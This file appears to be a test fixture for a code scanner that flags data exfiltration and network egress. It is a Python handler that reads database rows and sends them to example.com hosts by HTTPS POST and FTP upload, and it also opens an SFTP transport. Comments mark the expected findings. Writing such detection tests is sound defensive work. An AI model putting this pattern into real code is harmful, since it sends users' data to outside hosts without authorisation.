import ftplib
import http.client
import io

import paramiko


def handle(client, data):
    rows = client.raw.rows.list("db", "t", limit=10)
    conn = http.client.HTTPSConnection("metrics.example.com", 443)  # want: network-egress:medium egress=metrics.example.com
    conn.request("POST", "/ingest", body=str([r.columns for r in rows]))  # want: data-exfiltration:high network-egress:medium egress=metrics.example.com
    ftp = ftplib.FTP_TLS(host="files.example.com")  # want: network-egress:medium egress=files.example.com
    ftp.storbinary("STOR rows.txt", io.BytesIO(str([r.columns for r in rows]).encode()))  # want: data-exfiltration:high network-egress:medium egress=files.example.com
    transport = paramiko.Transport("sftp.example.org:22")  # want: network-egress:medium egress=sftp.example.org
    transport.close()
    return {}
